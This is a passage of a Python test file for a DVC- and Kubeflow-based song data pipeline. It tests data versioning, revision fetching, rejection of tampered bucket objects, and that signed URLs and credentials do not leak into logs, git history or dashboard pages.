        md5 = load_bytes(tmp_path, b"songs")
        with pytest.raises(RuntimeError, match=r"\.dvc' exists.*Nothing was committed.*Next:"):
            data_versions.version_songs(str(folder), md5)
        (folder / ".dvc" / "config").write_text("no configuration")
        with pytest.raises(ValueError, match=r"(?s)\.dvc/config: .*Next: restore it"):
            data_versions.version_songs(str(folder), md5)
    assert [file.name for file in folder.rglob("*") if ".git" not in file.parts and file.is_file()] == ["config"]


def test_training_fetches_exactly_one_revision(platform, songs, repository, tmp_path):
    run(platform, songs, repository)
    first = version_on_main(platform, repository, tmp_path)["md5"]
    fresh = tmp_path / "fresh.parquet"
    sample_data.make_fresh_songs(str(songs), str(fresh), new=2, corrected=0)
    run(platform, fresh, repository)
    newest, older, seed = git_log(platform, repository)
    with connection(platform):
        for revision, expected in (
            (older[:10], first),
            (newest, version_on_main(platform, repository, tmp_path)["md5"]),
        ):
            target = str(tmp_path / f"{revision}.parquet")
            found = data_versions.fetch_data_version(repository, revision, target)
            assert found["DVC training data hash"] == expected == file_digest(target, "md5")
            assert found["git revision"].startswith(revision)
        with pytest.raises(FileNotFoundError, match=r"song_properties\.parquet\.dvc.*data pipeline"):
            data_versions.fetch_data_version(repository, seed, str(tmp_path / "none"))
        assert found["rankings source"] == "sample"  # this repository has no default_parameters.json
        with pytest.raises(RuntimeError, match="abcdef0123.* Next: push that revision"):
            data_versions.fetch_data_version(repository, "abcdef0123", str(tmp_path / "none"))


@pytest.mark.parametrize("change", [lambda whole: whole[:-1] + b"?", lambda whole: whole[:100]], ids=["other", "torn"])
def test_training_refuses_songs_that_are_not_those_of_their_version(platform, s3, songs, repository, tmp_path, change):
    """Somebody has written to the bucket by hand: no file comes out of it."""
    with connection(platform):
        md5 = load_songs(songs, tmp_path)
        revision = data_versions.commit_data_version(repository, md5)["revision"]
        whole = s3.get_object(Bucket="data-cache", Key=data_cache.cache_key(md5))["Body"].read()
        s3.put_object(Bucket="data-cache", Key=data_cache.cache_key(md5), Body=change(whole))
        found = hashlib.md5(change(whole)).hexdigest()
        with pytest.raises(ValueError, match=rf"has md5 {found}, but its version file names {md5}.*Next:"):
            data_versions.fetch_data_version(repository, revision, str(tmp_path / "fetched"))
    assert not (tmp_path / "fetched").exists()


def test_training_fetches_what_somebody_pushed_with_dvc(platform, repository, tmp_path):
    """To the remote that the revision names."""
    folder = str(tmp_path / "clone")
    with connection(platform):
        git.container_environment()
        clone_main(repository, folder)
        (tmp_path / "clone" / "song_properties.parquet").write_text("by hand")
        for lines in (
            ("init", "--quiet"),
            ("remote", "add", "--default", "mine", "s3://data-cache/mine"),
            ("add", "--quiet", "song_properties.parquet"),
            ("push", "--quiet"),
        ):
            dvc_module.dvc(*lines, folder=folder)
        git.git("add", "song_properties.parquet.dvc", ".dvc", ".gitignore", folder=folder)
        git.git("commit", "--quiet", "--message", "By hand", folder=folder)
        git.git("push", "--quiet", "origin", "main", folder=folder)
        revision, target = git.git("rev-parse", "HEAD", folder=folder), tmp_path / "fetched"
        found = data_versions.fetch_data_version(repository, revision, str(target))
        assert target.read_text() == "by hand" and json.loads(found["DVC remotes"]) == {"mine": "s3://data-cache/mine"}
        dvc_module.dvc("remote", "modify", "mine", "url", "s3://data-cache/another", folder=folder)
        git.git("commit", "--all", "--quiet", "--message", "Gone", folder=folder)
        git.git("push", "--quiet", "origin", "main", folder=folder)
        with pytest.raises(FileNotFoundError, match="There is no object s3://data-cache/another/files/md5/.*Next:"):
            data_versions.fetch_data_version(repository, "main", str(tmp_path / "none"))


def test_the_signature_of_an_address_is_kept_in_the_runs_own_parameter_alone(platform, s3, songs, repository, capsys):
    """KFP's API must give a run's parameters back, so the server's database has them; nothing else does."""
    s3.upload_file(str(songs), "pipeline", "signed.parquet")
    whole = {"Bucket": "pipeline", "Key": "signed.parquet"}
    keys = platform.secret("aws-connection-data")
    signer = boto3.client(
        "s3",
        endpoint_url=keys["AWS_S3_ENDPOINT"],
        aws_access_key_id=keys["AWS_ACCESS_KEY_ID"],
        aws_secret_access_key=keys["AWS_SECRET_ACCESS_KEY"],
        region_name="us-east-1",
        config=Config(signature_version="s3v4", s3={"addressing_style": "path"}),
    )
    signed = signer.generate_presigned_url("get_object", Params=whole, ExpiresIn=600)
    hidden = signed.partition("Signature=")[2][:64]
    assert len(hidden) == 64
    finished = run(platform, signed, repository)
    assert len(git_log(platform, repository)) == 2
    wrong = signed.replace(hidden, hidden[::-1])
    failed = expect_failure(platform, s3, repository, wrong, "extract", "signed.parquet cannot be read: HTTP Error 403")
    assert "a signed address expires" in failed.what

    pages = [f"/dashboard/runs/{finished.id}?tab={tab}" for tab in ("graph", "parameters", "details")]
    pages += [f"/dashboard/runs/{finished.id}?step=root/extract&part={part}" for part in ("io", "logs", "details")]
    pages += [f"/dashboard/runs/{failed.run.id}", f"/dashboard/runs/create?duplicate={finished.id}", "/dashboard/runs"]
    login = (platform.secret("git-auth")["username"], platform.secret("git-auth")["password"])
    for page in pages:
        answer = requests.get(platform.cluster_domain + page, auth=login, timeout=DEADLINE)
        assert answer.ok and "</html>" in answer.text
        assert hidden not in answer.text and hidden[::-1] not in answer.text, page
    for text in (str(failed), log_of(platform, finished), log_of(platform, failed.run), *capsys.readouterr()):
        assert hidden not in text and hidden[::-1] not in text
    everything = ["git", "cat-file", "--batch-all-objects", "--batch", "--unordered"]
    in_git = subprocess.run(everything, cwd=bare_of(platform, repository), capture_output=True, check=True).stdout
    kept = {
        str(file.relative_to(platform.state))
        for file in platform.state.rglob("*")
        if file.is_file() and hidden.encode() in file.read_bytes()
    }
    assert hidden.encode() not in in_git
    assert {name.split("-wal")[0] for name in kept} == {"pipeline-server/server.db"}


def test_no_secret_in_logs_or_repository(platform, songs, repository):
    finished = run(platform, songs, repository)
    secrets = {**platform.secret("aws-connection-data"), **platform.secret("git-auth")}
    hidden = [secrets["AWS_SECRET_ACCESS_KEY"], secrets["password"]]
    text = log_of(platform, finished)
    objects_of_git = subprocess.run(
        ["git", "log", "-p", "--all"], cwd=bare_of(platform, repository), capture_output=True, text=True
    ).stdout
    for value in hidden:
        assert value not in text and value not in objects_of_git
        for file in (platform.state / "pipeline-server").rglob("*"):
            assert not file.is_file() or value.encode() not in file.read_bytes(), file
